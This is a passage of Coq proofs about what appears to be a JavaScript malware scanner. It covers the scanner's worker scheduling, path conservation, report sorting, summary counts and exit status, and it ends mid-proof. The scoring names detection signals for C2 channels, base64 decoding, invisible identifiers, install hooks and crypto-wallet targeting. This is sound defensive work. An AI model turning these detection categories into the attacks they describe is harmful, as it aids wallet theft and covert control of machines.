    pose proof (points_nonneg (cryptoWalletTargeting parts) 30).
    pose proof (points_nonneg (Nat.leb 3 (count_signals parts)) 15).
    assert (Hone : 40 <= points (knownC2Infrastructure parts) 60
                         + points (solanaBlockchainC2 parts) 50
                         + points (googleCalendarC2 parts) 50
                         + points (b64UrlDecoded parts) 45
                         + points (invisInIdentifier parts) 40
                         + points (pkgPostInstall parts) 40).
    { destruct (knownC2Infrastructure parts), (solanaBlockchainC2 parts),
        (googleCalendarC2 parts), (b64UrlDecoded parts), (invisInIdentifier parts),
        (pkgPostInstall parts); try discriminate Hset; unfold points; lia. }
    lia. }
  pose proof (classify_from_40 _ Hs) as Hl.
  rewrite (conclude_returns cfg path parts evidence Hl).
  eexists. split; [reflexivity|]. cbn [score level]. split; assumption.
Qed.

Lemma strong_signal_is_always_reported_witness :
  exists finding,
    inspect_conclude default_config (u "a.js") parts_55 no_details = Some finding
    /\ 40 <= score finding /\ level finding <> low.
Proof.
  apply (strong_signal_is_always_reported default_config (u "a.js") parts_55). reflexivity.
Defined.

(* ================================================================== *)
(** ** The pool, whatever the schedule *)

Local Close Scope Z_scope.

Lemma awaiting_length (ws : list worker) : List.length (awaiting ws) <= List.length ws.
Proof.
  induction ws as [|w ws IH]; [apply Nat.le_refl|].
  destruct w; cbn [awaiting flat_map app List.length] in *; fold (awaiting ws); lia.
Qed.

(** A run can be given from its first event on. *)
Lemma reaches_first (P : Platform) (cfg : Config) (s0 : Scan) (e : event) (s1 : Scan)
  (tr : list event) (s : Scan) :
  step P cfg s0 e s1 -> reaches P cfg s1 tr s -> reaches P cfg s0 (e :: tr) s.
Proof.
  intros Hstep Hreach. induction Hreach as [|tr s e' s' _ IH Hstep'].
  - apply (reaches_step P cfg s0 [] s0 e s1 (reaches_start P cfg s0) Hstep).
  - apply (reaches_step P cfg s0 (e :: tr) s e' s' IH Hstep').
Qed.

Ltac pool_pop w q f := apply (step_pop _ _ _ w q f); reflexivity.
Ltac pool_stop w := apply (step_stop _ _ _ w); reflexivity.
Ltac pool_inspected w f :=
  apply (step_inspected _ _ _ w f); [reflexivity|vm_compute; discriminate].
Ltac pool_timed_out w f :=
  apply (step_timed_out _ _ _ w f); [reflexivity|vm_compute; reflexivity].

(** Two complete runs of the pool on the sample queue.  The two workers
    take [wallet.js] and [beacon.js], which are read in the same time; the
    race of either may settle first, and that worker goes on with
    [package.json] while the other one gets [slow.js], which is read in
    500 ms and loses against the timer of 100 ms. *)
Lemma sample_scan (first : jsstring) :
  first = sample_path wallet_js \/ first = sample_path beacon_js ->
  exists tr s,
    reaches (sample_platform sample_tree) default_config
            (start (sample_platform sample_tree) sample_queue) tr s
    /\ all_returned s
    /\ hd_error (settled_files tr) = Some first
    /\ map skip_file (skipped s) = [sample_path slow_js]
    /\ map file (out s) = [sample_path package_json].
Proof.
  intros [-> | ->].
  - eexists _, _. split; [|split; [|split; [|split]]].
    + eapply reaches_first;
        [pool_pop 0 [sample_path slow_js; sample_path package_json; sample_path beacon_js]
                  (sample_path wallet_js)|].
      eapply reaches_first;
        [pool_pop 1 [sample_path slow_js; sample_path package_json]
                  (sample_path beacon_js)|].
      eapply reaches_first; [pool_inspected 0 (sample_path wallet_js)|].
      eapply reaches_first;
        [pool_pop 0 [sample_path slow_js] (sample_path package_json)|].
      eapply reaches_first; [pool_inspected 1 (sample_path beacon_js)|].
      eapply reaches_first; [pool_pop 1 (@nil jsstring) (sample_path slow_js)|].
      eapply reaches_first; [pool_inspected 0 (sample_path package_json)|].
      eapply reaches_first; [pool_stop 0|].
      eapply reaches_first; [pool_timed_out 1 (sample_path slow_js)|].
      eapply reaches_first; [pool_stop 1|].
      apply reaches_start.
    + repeat constructor.
    + reflexivity.
    + vm_compute. reflexivity.
    + vm_compute. reflexivity.
  - eexists _, _. split; [|split; [|split; [|split]]].
    + eapply reaches_first;
        [pool_pop 0 [sample_path slow_js; sample_path package_json; sample_path beacon_js]
                  (sample_path wallet_js)|].
      eapply reaches_first;
        [pool_pop 1 [sample_path slow_js; sample_path package_json]
                  (sample_path beacon_js)|].
      eapply reaches_first; [pool_inspected 1 (sample_path beacon_js)|].
      eapply reaches_first;
        [pool_pop 1 [sample_path slow_js] (sample_path package_json)|].
      eapply reaches_first; [pool_inspected 0 (sample_path wallet_js)|].
      eapply reaches_first; [pool_pop 0 (@nil jsstring) (sample_path slow_js)|].
      eapply reaches_first; [pool_inspected 1 (sample_path package_json)|].
      eapply reaches_first; [pool_stop 1|].
      eapply reaches_first; [pool_timed_out 0 (sample_path slow_js)|].
      eapply reaches_first; [pool_stop 0|].
      apply reaches_start.
    + repeat constructor.
    + reflexivity.
    + vm_compute. reflexivity.
    + vm_compute. reflexivity.
Qed.


(** Extra X9. In every state of a scan, under every schedule, the paths
    still queued, the paths being inspected and the paths already
    settled are together exactly the paths that were queued: none is
    lost and none is inspected twice.  At most CONCURRENCY inspections
    are awaited at a time, the processed count is the number of settled
    races, and findings and skip records together never outnumber it. *)
Theorem pool_conserves_paths (P : Platform) (cfg : Config) (files : list jsstring)
  (tr : list event) (s : Scan) :
  reaches P cfg (start P files) tr s ->
  Permutation files (queue s ++ awaiting (workers s) ++ settled_files tr)
  /\ List.length (awaiting (workers s)) <= CONCURRENCY P
  /\ List.length (queue s) + List.length (awaiting (workers s)) + processed s
     = List.length files
  /\ List.length (out s) + List.length (skipped s) <= processed s.
Proof.
  intros Hreach. destruct (invariant_reaches P cfg files tr s Hreach)
    as [Hfiles Hproc Hout Hskip _ _ Hpool].
  split; [exact Hfiles|].
  split; [rewrite <- Hpool; apply awaiting_length|].
  split.
  - apply Permutation_length in Hfiles. rewrite !length_app in Hfiles. lia.
  - rewrite Hout, Hskip, Hproc. apply settled_outcomes.
Qed.

Lemma pool_conserves_paths_witness :
  exists tr s,
    reaches (sample_platform sample_tree) default_config
            (start (sample_platform sample_tree) sample_queue) tr s
    /\ all_returned s
    /\ Permutation sample_queue (queue s ++ awaiting (workers s) ++ settled_files tr)
    /\ List.length (awaiting (workers s)) <= CONCURRENCY (sample_platform sample_tree)
    /\ List.length (queue s) + List.length (awaiting (workers s)) + processed s = 4
    /\ List.length (out s) + List.length (skipped s) <= processed s.
Proof.
  destruct (sample_scan (sample_path wallet_js) (or_introl eq_refl))
    as (tr & s & Hreach & Hall & _).
  exists tr, s. split; [exact Hreach|]. split; [exact Hall|].
  exact (pool_conserves_paths (sample_platform sample_tree) default_config sample_queue
           tr s Hreach).
Defined.

(** The outcome of [inspect] does not depend on the state of [INVIS]. *)
Lemma inspect_any_lastIndex (P : Platform) (cfg : Config) (path : jsstring)
  (lastIndex lastIndex' : nat) :
  fst (inspect P cfg path lastIndex) = fst (inspect P cfg path lastIndex').
Proof.
  destruct (inspect_settles P cfg path lastIndex) as [Hnull | (st & buf & Hname & Hstat & Hsize & Hlike & Hread & Hbin)].
  - rewrite Hnull. symmetry.
    destruct (inspect_settles P cfg path lastIndex') as [Hnull' | (st & buf & Hname & Hstat & Hsize & Hlike & Hread & Hbin)]; [exact Hnull'|].
    rewrite (inspect_past_gates P cfg path st buf lastIndex' Hname Hstat Hsize Hlike Hread Hbin).
    rewrite (inspect_past_gates P cfg path st buf lastIndex Hname Hstat Hsize Hlike Hread Hbin)
      in Hnull. exact Hnull.
  - rewrite !(inspect_past_gates P cfg path st buf _ Hname Hstat Hsize Hlike Hread Hbin).
    reflexivity.
Qed.

(** The findings of a run, together with what [inspect] gives for the
    paths it skipped, are what [inspect] gives for the settled paths. *)
Lemma run_outcomes (P : Platform) (cfg : Config) (tr : list event) :
  Forall (legitimate P cfg) tr ->
  Permutation
    (findings_of tr ++ flat_map (finding_of P cfg) (map skip_file (skips_of tr)))
    (flat_map (finding_of P cfg) (settled_files tr)).
Proof.
  induction 1 as [|e tr He _ IH]; [apply Permutation_refl|].
  unfold findings_of, skips_of, settled_files in *. cbn [flat_map].
  rewrite map_app, !flat_map_app.
  destruct e as [w f|w|w f r|f]; try exact IH.
  cbn [flat_map]. rewrite !app_nil_r.
  destruct He as [[-> _] | [_ [li Hr]]].
  - cbn [err_message timeout_Error String.eqb Ascii.eqb Bool.eqb map skip_file flat_map app].
    rewrite app_nil_r. rewrite Permutation_app_swap_app.
    apply Permutation_app_head. exact IH.
  - pose proof (inspect_is_no_timeout P cfg f li) as Hno. rewrite <- Hr in Hno.
    rewrite (inspect_any_lastIndex P cfg f li 0) in Hr.
    unfold finding_of at 3. rewrite <- Hr.
    destruct r as [[x|]|err]; [| |rewrite Hno]; cbn [map flat_map app];
      try exact IH.
    apply perm_skip. exact IH.
Qed.

Lemma group_push_spec (r : Finding) (acc : list (Level * list Finding)) (k : Level) :
  group_of (group_push r acc) k
  = group_of acc k ++ (if Level_eqb (level r) k then [r] else []).
Proof.
  induction acc as [|[k' rs] acc IH]; cbn [group_push group_of].
  - destruct (level r), k; reflexivity.
  - destruct (Level_eqb (level r) k') eqn:E; cbn [group_of].
    + destruct (level r), k, k'; try discriminate E; cbn; rewrite ?app_nil_r; reflexivity.
    + destruct (Level_eqb k k') eqn:E'; [|exact IH].
      destruct (level r), k, k'; try discriminate E; try discriminate E';
        cbn; rewrite ?app_nil_r; reflexivity.
Qed.

(** A group holds the findings of its class, in the order of the list. *)
Lemma group_grouped (l : list Finding) (k : Level) :
  group_of (grouped l) k = filter (fun r => Level_eqb (level r) k) l.
Proof.
  unfold grouped.
  assert (H : forall acc, group_of (fold_left (fun acc r => group_push r acc) l acc) k
                          = group_of acc k ++ filter (fun r => Level_eqb (level r) k) l).
  { induction l as [|r l IH]; intros acc; cbn [fold_left filter].
    - rewrite app_nil_r. reflexivity.
    - rewrite IH, group_push_spec, <- app_assoc.
      destruct (Level_eqb (level r) k); reflexivity. }
  rewrite H. reflexivity.
Qed.

Lemma sort_insert_Permutation {A : Type} (cmp : A -> A -> Z) (x : A) (l : list A) :
  Permutation (x :: l) (sort_insert cmp x l).
Proof.
  induction l as [|y l IH]; cbn [sort_insert]; [apply Permutation_refl|].
  destruct (Z.ltb 0 (cmp x y)); [|apply Permutation_refl].
  apply perm_trans with (y :: x :: l); [apply perm_swap|].
  apply perm_skip. exact IH.
Qed.

Lemma Array_sort_Permutation {A : Type} (cmp : A -> A -> Z) (l : list A) :
  Permutation l (Array_sort cmp l).
Proof.
  induction l as [|x l IH]; cbn [Array_sort fold_right]; [apply Permutation_refl|].
  apply perm_trans with (x :: Array_sort cmp l); [apply perm_skip; exact IH|].
  apply sort_insert_Permutation.
Qed.

Lemma filter_Permutation {A : Type} (f : A -> bool) (l l' : list A) :
  Permutation l l' -> Permutation (filter f l) (filter f l').
Proof.
  induction 1 as [|x l l' _ IH|x y l|l l' l'' _ IH _ IH']; cbn [filter].
  - apply Permutation_refl.
  - destruct (f x); [apply perm_skip|]; exact IH.
  - destruct (f x), (f y); try apply Permutation_refl. apply perm_swap.
  - apply perm_trans with (filter f l'); assumption.
Qed.

(** The summary counts the findings of each class, in whatever order
    they came. *)
Lemma summary_counts (localeCompare : jsstring -> jsstring -> Z) (out : list Finding) :
  summary (grouped (Array_sort (compare_findings localeCompare) out))
  = map (fun k => (k, List.length (filter (fun r => Level_eqb (level r) k) out)))
        [critical; high; medium; low].
Proof.
  unfold summary. apply map_ext. intros k. f_equal. rewrite group_grouped.
  apply Permutation_length, filter_Permutation, Permutation_sym, Array_sort_Permutation.
Qed.

Lemma summary_Permutation (localeCompare : jsstring -> jsstring -> Z) (l l' : list Finding) :
  Permutation l l' ->
  summary (grouped (Array_sort (compare_findings localeCompare) l))
  = summary (grouped (Array_sort (compare_findings localeCompare) l')).
Proof.
  intros H. rewrite !summary_counts. apply map_ext. intros k. f_equal.
  apply Permutation_length, filter_Permutation, H.
Qed.

(** Extra X10. The result of a scan depends on the schedule of the
    workers only through the paths that the timer skips.  In a complete
    run the findings, together with what [inspect] gives for the skipped
    paths, are exactly what [inspect] gives for the queued paths, in some
    order; a run that skips nothing ends with exactly the findings that
    [inspect] gives for the queued paths.  So two complete runs that skip
    the same paths agree on the findings up to their order, on the summary
    and on the exit status. *)
Theorem results_do_not_depend_on_schedule (P : Platform) (cfg : Config)
  (files : list jsstring) (localeCompare : jsstring -> jsstring -> Z) (fail_on : string)
  (written : bool) (tr tr' : list event) (s s' : Scan) :
  reaches P cfg (start P files) tr s -> all_returned s ->
  reaches P cfg (start P files) tr' s' -> all_returned s' ->
  Permutation (map skip_file (skipped s)) (map skip_file (skipped s')) ->
  Permutation (out s ++ flat_map (finding_of P cfg) (map skip_file (skipped s)))
              (flat_map (finding_of P cfg) files)
  /\ (skipped s = [] -> Permutation (out s) (flat_map (finding_of P cfg) files))
  /\ Permutation (out s) (out s')
  /\ report_summary (main_report localeCompare fail_on written (out s))
     = report_summary (main_report localeCompare fail_on written (out s'))
  /\ exit_status (main_report localeCompare fail_on written (out s))
     = exit_status (main_report localeCompare fail_on written (out s')).
Proof.
  intros Hreach Hall Hreach' Hall' Hsame.
  assert (Hrun : forall tr s, reaches P cfg (start P files) tr s -> all_returned s ->
                   Permutation
                     (out s ++ flat_map (finding_of P cfg) (map skip_file (skipped s)))
                     (flat_map (finding_of P cfg) files)).
  { clear tr s tr' s' Hreach Hall Hreach' Hall' Hsame. intros tr s Hreach Hall.
    destruct (invariant_reaches P cfg files tr s Hreach)
      as [Hfiles _ Hout Hskip Hev Hdrained Hpool].
    assert (Hq : queue s = []).
    { apply Hdrained. unfold all_returned in Hall.
      destruct (workers s) as [|w ws] eqn:Hws.
      - pose proof (CONCURRENCY_at_least_2 P). cbn [List.length] in Hpool. lia.
      - inversion Hall; subst. left. reflexivity. }
    rewrite Hq, (awaiting_none _ Hall) in Hfiles. cbn [app] in Hfiles.
    rewrite Hout, Hskip.
    apply perm_trans with (flat_map (finding_of P cfg) (settled_files tr));
      [apply (run_outcomes P cfg tr Hev)|].
    apply Permutation_flat_map, Permutation_sym, Hfiles. }
  pose proof (Hrun tr s Hreach Hall) as Hp.
  pose proof (Hrun tr' s' Hreach' Hall') as Hp'.
  assert (Hpp : Permutation (out s) (out s')).
  { apply (Permutation_app_inv_r
             (flat_map (finding_of P cfg) (map skip_file (skipped s)))).
    apply perm_trans with (flat_map (finding_of P cfg) files); [exact Hp|].
    apply Permutation_sym.
    apply perm_trans
      with (out s' ++ flat_map (finding_of P cfg) (map skip_file (skipped s')));
      [|exact Hp'].
    apply Permutation_app_head, Permutation_flat_map, Hsame. }
  split; [exact Hp|]. split.
  { intros Hnone. rewrite Hnone in Hp. cbn [map flat_map] in Hp.
    rewrite app_nil_r in Hp. exact Hp. }
  split; [exact Hpp|].
  unfold main_report. cbn [report_summary exit_status].
  rewrite (summary_Permutation localeCompare _ _ Hpp). split; reflexivity.
Qed.

(* ================================================================== *)
(** ** The report of [main] *)

Local Open Scope Z_scope.

Lemma compare_findings_ranked (localeCompare : jsstring -> jsstring -> Z) (a b : Finding) :
  compare_findings localeCompare a b <= 0 <-> ranked localeCompare a b.
Proof.
  unfold compare_findings, ranked.
  destruct (Z.eqb_spec (score b - score a) 0); lia.
Qed.

Section Sorting.
Variable localeCompare : jsstring -> jsstring -> Z.
Hypothesis Hconsistent : consistent localeCompare.

Lemma ranked_total (a b : Finding) :
  0 < compare_findings localeCompare a b -> ranked localeCompare b a.
Proof.
  unfold compare_findings, ranked.
  destruct (Z.eqb_spec (score b - score a) 0) as [E|E]; intros H; [|lia].
  right. split; [lia|]. pose proof (compare_total _ Hconsistent _ _ H). lia.
Qed.

Lemma ranked_trans (a b c : Finding) :
  ranked localeCompare a b -> ranked localeCompare b c -> ranked localeCompare a c.
Proof.
  unfold ranked. intros [H|[H H']] [K|[K K']]; try (left; lia).
  right. split; [lia|]. exact (compare_trans _ Hconsistent _ _ _ H' K').
Qed.

Lemma sort_insert_sorted (x : Finding) (l : list Finding) :
  StronglySorted (ranked localeCompare) l ->
  StronglySorted (ranked localeCompare) (sort_insert (compare_findings localeCompare) x l).
Proof.
  induction l as [|y l IH]; intros Hl; cbn [sort_insert].
  - constructor; constructor.
  - apply StronglySorted_inv in Hl. destruct Hl as [Hl Hy].
    destruct (Z.ltb_spec 0 (compare_findings localeCompare x y)) as [H|H].
    + constructor; [apply IH; exact Hl|].
      apply (Permutation_Forall (sort_insert_Permutation _ x l)).
      constructor; [apply ranked_total; exact H|exact Hy].
    + apply compare_findings_ranked in H.
      constructor; [constructor; assumption|].
      constructor; [exact H|].
      apply Forall_forall. intros z Hz. rewrite Forall_forall in Hy.
      apply (ranked_trans x y z H (Hy z Hz)).
Qed.

Lemma Array_sort_sorted (l : list Finding) :
  StronglySorted (ranked localeCompare) (Array_sort (compare_findings localeCompare) l).
Proof.
  induction l as [|x l IH]; cbn [Array_sort fold_right]; [constructor|].
  apply sort_insert_sorted. exact IH.
Qed.
End Sorting.

Lemma filter_sorted {A : Type} (R : A -> A -> Prop) (f : A -> bool) (l : list A) :
  StronglySorted R l -> StronglySorted R (filter f l).
Proof.
  induction 1 as [|x l Hl IH Hx]; cbn [filter]; [constructor|].
  destruct (f x); [|exact IH].
  constructor; [exact IH|].
  apply Forall_forall. intros y Hy. apply filter_In in Hy.
  rewrite Forall_forall in Hx. apply Hx, Hy.
Qed.

Lemma app_sorted {A : Type} (R : A -> A -> Prop) (l l' : list A) :
  StronglySorted R l -> StronglySorted R l' ->
  (forall x y, In x l -> In y l' -> R x y) ->
  StronglySorted R (l ++ l').
Proof.
  induction 1 as [|x l Hl IH Hx]; intros Hl' Hc; cbn [app]; [exact Hl'|].
  constructor.
  - apply IH; [exact Hl'|]. intros a b Ha Hb. apply Hc; [right; exact Ha|exact Hb].
  - apply Forall_app. split; [exact Hx|].
    apply Forall_forall. intros y Hy. apply Hc; [left; reflexivity|exact Hy].
Qed.

Lemma firstn_sorted {A : Type} (R : A -> A -> Prop) (n : nat) (l : list A) :
  StronglySorted R l -> StronglySorted R (firstn n l).
Proof.
  intros Hl. revert n. induction Hl as [|x l Hl IH Hx]; intros [|n]; cbn [firstn];
    try constructor; [apply IH|].
  apply Forall_forall. intros y Hy. rewrite Forall_forall in Hx.
  apply Hx. rewrite <- (firstn_skipn n l). apply in_or_app. left. exact Hy.
Qed.

Lemma sorted_weaken {A : Type} (R R' : A -> A -> Prop) (l : list A) :
  (forall x y, R x y -> R' x y) -> StronglySorted R l -> StronglySorted R' l.
Proof.
  intros H. induction 1 as [|x l Hl IH Hx]; constructor; [exact IH|].
  apply Forall_forall. intros y Hy. rewrite Forall_forall in Hx. apply H, Hx, Hy.
Qed.

Lemma Level_eqb_eq (a b : Level) : Level_eqb a b = true <-> a = b.
Proof. destruct a, b; cbn; split; intros E; try reflexivity; discriminate E. Qed.

(** Extra X11. For a consistent [localeCompare], the findings of the
    report are the findings of the scan in another order: the higher
    score first, and among equal scores the paths in the order of
    [localeCompare].  Each class of the report holds exactly the findings
    of that class, in that same order. *)
Theorem report_is_sorted_and_grouped (localeCompare : jsstring -> jsstring -> Z)
  (fail_on : string) (written : bool) (out : list Finding) :
  consistent localeCompare ->
  exists sorted,
    Permutation out sorted
    /\ StronglySorted (ranked localeCompare) sorted
    /\ forall k,
         group_of (report_findings (main_report localeCompare fail_on written out)) k
         = filter (fun r => Level_eqb (level r) k) sorted.
Proof.
  intros Hc. exists (Array_sort (compare_findings localeCompare) out).
  split; [apply Array_sort_Permutation|].
  split; [apply Array_sort_sorted; exact Hc|].
  intros k. unfold main_report. cbn [report_findings]. apply group_grouped.
Qed.

(** Extra X12. The summary of the report counts, for each of the four
    classes, the findings of the scan of that class; the four counts add
    up to the number of findings. *)
Theorem summary_counts_every_finding (localeCompare : jsstring -> jsstring -> Z)
  (fail_on : string) (written : bool) (out : list Finding) :
  (forall k,
     summary_count (report_summary (main_report localeCompare fail_on written out)) k
     = List.length (filter (fun r => Level_eqb (level r) k) out))
  /\ (summary_count (report_summary (main_report localeCompare fail_on written out)) critical
      + summary_count (report_summary (main_report localeCompare fail_on written out)) high
      + summary_count (report_summary (main_report localeCompare fail_on written out)) medium
      + summary_count (report_summary (main_report localeCompare fail_on written out)) low
      = List.length out)%nat.
Proof.
  unfold main_report. cbn [report_summary]. rewrite summary_counts.
  assert (Hk : forall k,
             summary_count
               (map (fun k => (k, List.length (filter (fun r => Level_eqb (level r) k) out)))
                    [critical; high; medium; low]) k
             = List.length (filter (fun r => Level_eqb (level r) k) out)).
  { intros k. destruct k; reflexivity. }
  split; [exact Hk|]. rewrite !Hk. clear Hk.
  induction out as [|r out IH]; [reflexivity|].
  cbn [filter List.length]. destruct (level r); cbn [Level_eqb List.length]; lia.
Qed.

Lemma code_unit_compare_consistent : consistent code_unit_compare.
Proof.
  split.
  - intros a. induction a as [|x a IH]; intros [|y b]; cbn [code_unit_compare]; try lia.
    destruct (N.ltb_spec x y), (N.ltb_spec y x); try lia. apply IH.
  - intros a. induction a as [|x a IH]; intros [|y b] [|z c]; cbn [code_unit_compare];
      try lia.
    destruct (N.ltb_spec x y), (N.ltb_spec y x), (N.ltb_spec y z), (N.ltb_spec z y),
      (N.ltb_spec x z), (N.ltb_spec z x); try lia.
    apply IH.
Qed.

Lemma report_is_sorted_and_grouped_witness :
  exists sorted,
    Permutation [finding_40 (u "b/package.json"); finding_40 (u "a/package.json")] sorted
    /\ StronglySorted (ranked code_unit_compare) sorted
    /\ forall k,
         group_of (report_findings
                  (main_report code_unit_compare "critical" true
                     [finding_40 (u "b/package.json"); finding_40 (u "a/package.json")])) k
         = filter (fun r => Level_eqb (level r) k) sorted.
Proof.
  apply (report_is_sorted_and_grouped code_unit_compare "critical" true
           [finding_40 (u "b/package.json"); finding_40 (u "a/package.json")]).
  apply code_unit_compare_consistent.
Defined.

Lemma classify_score_bands (a b : Finding) :
  level a = classify (score a) -> level b = classify (score b) ->
  (Level_rank (level a) < Level_rank (level b))%nat -> score b < score a.
Proof.
  intros -> ->. unfold classify.
  destruct (Z.leb_spec 80 (score a)), (Z.leb_spec 60 (score a)), (Z.leb_spec 40 (score a)),
    (Z.leb_spec 80 (score b)), (Z.leb_spec 60 (score b)), (Z.leb_spec 40 (score b));
    cbn [Level_rank]; lia.
Qed.

(** Extra X13. For a consistent [localeCompare] and findings whose class
    is the class of their score, as those of [inspect] are, the findings
    that [main] prints are at most 500, none of class low, each one a
    finding of the scan, in the order of falling scores; and when the
    scan has at most 500 findings above low, all of them are printed. *)
Theorem printable_findings (localeCompare : jsstring -> jsstring -> Z) (fail_on : string)
  (written : bool) (out : list Finding) :
  consistent localeCompare ->
  Forall (fun r => level r = classify (score r)) out ->
  (List.length (report_printable (main_report localeCompare fail_on written out)) <= 500)%nat
  /\ Forall (fun r => In r out /\ level r <> low)
            (report_printable (main_report localeCompare fail_on written out))
  /\ StronglySorted (fun a b => score b <= score a)
                    (report_printable (main_report localeCompare fail_on written out))
  /\ ((List.length (filter (fun r => negb (Level_eqb (level r) low)) out) <= 500)%nat ->
      forall r, In r out -> level r <> low ->
        In r (report_printable (main_report localeCompare fail_on written out))).
Proof.
  intros Hc Hout. unfold main_report. cbn [report_printable]. unfold printable, slice.
  rewrite Nat.sub_0_r. cbn [skipn flat_map]. rewrite app_nil_r, !group_grouped.
  set (sorted := Array_sort (compare_findings localeCompare) out).
  pose proof (Array_sort_Permutation (compare_findings localeCompare) out) as Hperm.
  fold sorted in Hperm.
  pose proof (Array_sort_sorted localeCompare Hc out) as Hsorted. fold sorted in Hsorted.
  assert (Hclass : forall r, In r sorted -> level r = classify (score r)).
  { intros r Hr. rewrite Forall_forall in Hout. apply Hout.
    apply (Permutation_in r (Permutation_sym Hperm) Hr). }
  set (shown := filter (fun r => Level_eqb (level r) critical) sorted
                ++ filter (fun r => Level_eqb (level r) high) sorted
                ++ filter (fun r => Level_eqb (level r) medium) sorted).
  assert (Hshown : forall r, In r shown <-> In r out /\ level r <> low).
  { intros r. unfold shown. rewrite !in_app_iff, !filter_In, !Level_eqb_eq.
    split.
    - intros [[H E]|[[H E]|[H E]]]; (split; [exact (Permutation_in r (Permutation_sym Hperm) H)
                                            |rewrite E; discriminate]).
    - intros [H E]. apply (Permutation_in r Hperm) in H.
      destruct (level r); [left|right; left|right; right|contradiction]; split; auto. }
  split; [apply firstn_le_length|].
  split.
  { apply Forall_forall. intros r Hr. apply Hshown.
    rewrite <- (firstn_skipn 500 shown). apply in_or_app. left. exact Hr. }
  split.
  { apply firstn_sorted. unfold shown.
    assert (Hg : forall k, StronglySorted (fun a b => score b <= score a)
                             (filter (fun r => Level_eqb (level r) k) sorted)).
    { intros k. apply filter_sorted.
      apply (sorted_weaken (ranked localeCompare)); [|exact Hsorted].
      unfold ranked. intros x y [H|[H _]]; lia. }
    assert (Hx : forall j k x y, (Level_rank j < Level_rank k)%nat ->
                   In x (filter (fun r => Level_eqb (level r) j) sorted) ->
                   In y (filter (fun r => Level_eqb (level r) k) sorted) ->
                   score y <= score x).
    { intros j k x y Hjk Hx Hy. apply filter_In in Hx, Hy.
      destruct Hx as [Hx Ex], Hy as [Hy Ey]. apply Level_eqb_eq in Ex, Ey.
      assert (score y < score x); [|lia].
      apply classify_score_bands; [apply Hclass; exact Hx|apply Hclass; exact Hy|].
      rewrite Ex, Ey. exact Hjk. }
    apply app_sorted; [apply Hg|apply app_sorted; [apply Hg|apply Hg|]|].
    - intros x y. apply (Hx high medium). cbn. lia.
    - intros x y Hx' Hy. apply in_app_or in Hy. destruct Hy as [Hy|Hy].
      + apply (Hx critical high x y); [cbn; lia|exact Hx'|exact Hy].
      + apply (Hx critical medium x y); [cbn; lia|exact Hx'|exact Hy]. }
  intros Hfew r Hr Hl.
  rewrite firstn_all2; [apply Hshown; split; assumption|].
  assert (Hlen : List.length shown
                 = List.length (filter (fun r => negb (Level_eqb (level r) low)) sorted)).
  { unfold shown. rewrite !length_app. clear.
    induction sorted as [|r l IH]; [reflexivity|].
    cbn [filter]. destruct (level r); cbn [Level_eqb negb List.length]; lia. }
  rewrite Hlen.
  rewrite (Permutation_length (filter_Permutation _ _ _ (Permutation_sym Hperm))).
  exact Hfew.
Qed.

Lemma printable_findings_witness :
  (List.length (report_printable
                  (main_report code_unit_compare "critical" true
                     [finding_40 (u "b/package.json"); finding_40 (u "a/package.json")]))
   <= 500)%nat
  /\ In (finding_40 (u "a/package.json"))
        (report_printable
           (main_report code_unit_compare "critical" true
              [finding_40 (u "b/package.json"); finding_40 (u "a/package.json")])).
Proof.
  destruct (printable_findings code_unit_compare "critical" true
              [finding_40 (u "b/package.json"); finding_40 (u "a/package.json")]
              code_unit_compare_consistent
              ltac:(repeat constructor))
    as (Hlen & _ & _ & Hall).
  split; [exact Hlen|].
  apply Hall; [vm_compute; lia|right; left; reflexivity|discriminate].
Defined.

(* ================================================================== *)
(** ** The exit status *)

Lemma count_positive {A : Type} (f : A -> bool) (l : list A) :
  Nat.ltb 0 (List.length (filter f l)) = true <-> exists x, In x l /\ f x = true.
Proof.
  rewrite Nat.ltb_lt. split.
  - destruct (filter f l) as [|x l'] eqn:E; cbn [List.length]; [lia|].
    intros _. exists x. apply filter_In. rewrite E. left. reflexivity.
  - intros (x & Hx). apply filter_In in Hx.
    destruct (filter f l); [contradiction|cbn; lia].
Qed.

Lemma indexOf_levels (name : string) (i : nat) :
  indexOf [critical; high; medium; low] name = Some i
  <-> exists t, name = Level_name t /\ i = Level_rank t.
Proof.
  cbn [indexOf Level_name].
  destruct (String.eqb_spec "critical" name) as [<-|Hc].
  { split; [intros E; inversion E; exists critical; split; reflexivity|].
    intros ([] & E & ->); try discriminate E. reflexivity. }
  destruct (String.eqb_spec "high" name) as [<-|Hh].
  { split; [intros E; inversion E; exists high; split; reflexivity|].
    intros ([] & E & ->); try discriminate E. reflexivity. }
  destruct (String.eqb_spec "medium" name) as [<-|Hm].
  { split; [intros E; inversion E; exists medium; split; reflexivity|].
    intros ([] & E & ->); try discriminate E. reflexivity. }
  destruct (String.eqb_spec "low" name) as [<-|Hl].
  { split; [intros E; inversion E; exists low; split; reflexivity|].
    intros ([] & E & ->); try discriminate E. reflexivity. }
  cbn. split; [discriminate|].
  intros ([] & E & _); cbn in E; congruence.
Qed.

Lemma exitCode_counts (fail_on : string) (out : list Finding) :
  exitCode fail_on
    (map (fun k => (k, List.length (filter (fun r => Level_eqb (level r) k) out)))
         [critical; high; medium; low])
  = 1
  <-> exists t r,
        fail_on = Level_name t /\ In r out /\ (Level_rank (level r) <= Level_rank t)%nat.
Proof.
  unfold exitCode.
  destruct (String.eqb_spec fail_on "none") as [->|Hnone]; cbn [negb].
  { split; [discriminate|]. intros ([] & _ & E & _); discriminate E. }
  destruct (indexOf [critical; high; medium; low] fail_on) as [i|] eqn:Hi.
  - apply indexOf_levels in Hi. destruct Hi as (t & -> & ->).
    destruct (existsb _ _) eqn:Hex.
    + split; [intros _|reflexivity].
      apply existsb_exists in Hex. destruct Hex as (k & Hk & Hpos).
      assert (Hc : summary_count
                     (map (fun k => (k, List.length
                                          (filter (fun r => Level_eqb (level r) k) out)))
                          [critical; high; medium; low]) k
                   = List.length (filter (fun r => Level_eqb (level r) k) out))
        by (destruct k; reflexivity).
      rewrite Hc in Hpos. apply count_positive in Hpos. destruct Hpos as (r & Hr & E).
      apply Level_eqb_eq in E. exists t, r. split; [reflexivity|]. split; [exact Hr|].
      clear Hc. subst k. destruct t, (level r); cbn in Hk |- *; try lia; intuition discriminate.
    + split; [discriminate|]. intros (t' & r & E & Hr & Hrank). exfalso.
      assert (t' = t) by (destruct t, t'; cbn in E; congruence). subst t'.
      assert (Hin : existsb
                      (fun k => Nat.ltb 0 (summary_count
                         (map (fun k => (k, List.length
                                              (filter (fun r => Level_eqb (level r) k) out)))
                              [critical; high; medium; low]) k))
                      (firstn (Level_rank t + 1) [critical; high; medium; low]) = true).
      { apply existsb_exists. exists (level r). split.
